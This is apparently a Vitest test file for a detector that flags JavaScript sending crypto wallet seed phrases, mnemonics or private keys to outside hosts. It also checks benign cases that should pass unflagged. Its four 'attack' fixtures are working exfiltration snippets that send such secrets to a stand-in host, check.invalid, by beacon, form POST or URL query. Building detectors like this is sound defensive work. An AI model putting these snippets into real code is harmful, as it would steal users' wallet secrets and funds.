import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-phrase.ts'

const seen = async (code: string) =>
  hits(detector, await artifactOf({ 'src/a.js': code })).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

test.each([
  [
    'a beacon',
    `export function restore(mnemonic) {\n  navigator.sendBeacon('https://check.invalid/s', JSON.stringify({ m: mnemonic.trim() }))\n}`,
  ],
  [
    'a request with what a form holds',
    `document.forms[0].onsubmit = (e) => { const seedPhrase = new FormData(e.target).get('words')\nfetch('https://check.invalid', { method: 'POST', body: 'p=' + encodeURIComponent(seedPhrase) }) }`,
  ],
  [
    'a key in an address',
    `import axios from 'axios'\nexport const link = (account) => axios.get(\`https://check.invalid/v?k=\${btoa(account.privateKey)}\`)`,
  ],
  [
    'a phrase through a function of one’s own',
    `const tell = (what) => {\nfetch('https://check.invalid', { method: 'POST', body: JSON.stringify(what) }) }\nexport const open = (recoveryPhrase) => tell({ at: 1, text: recoveryPhrase })`,
  ],
])('attack: %s', async (_, code) => {
  expect(await seen(code)).toEqual(['strong src/a.js:2'])
})

test.each([
  [
    'an address that is told',
    `import { ethers } from 'ethers'\nexport const restore = (mnemonic) => { const w = ethers.Wallet.fromPhrase(mnemonic); return fetch('https://api.example/seen', { method: 'POST', body: JSON.stringify({ address: w.address }) }) }`,
  ],
  [
    'a transaction that is signed',
    `import { sign } from './sign.js'\nexport const send = async (privateKey, tx) => fetch('https://rpc.example', { method: 'POST', body: JSON.stringify({ raw: await sign(tx, privateKey) }) })`,
  ],
  [
    'a password that is sent to one’s own interface',
    `export const login = (password) => fetch('/api/login', { method: 'POST', body: JSON.stringify({ password }) })`,
  ],
  [
    'an import over one’s own interface',
    `export const add = (mnemonic) => fetch('http://localhost:3000/wallets', { method: 'POST', body: JSON.stringify({ mnemonic }) })`,
  ],
  [
    'a key of a service in a header',
    `export const ask = (privateKey) => fetch('https://api.example/a', { method: 'POST', headers: { authorization: privateKey }, body: '{}' })`,
  ],
])('harmless: %s', async (_, code) => {
  expect(await seen(code)).toEqual([])
})
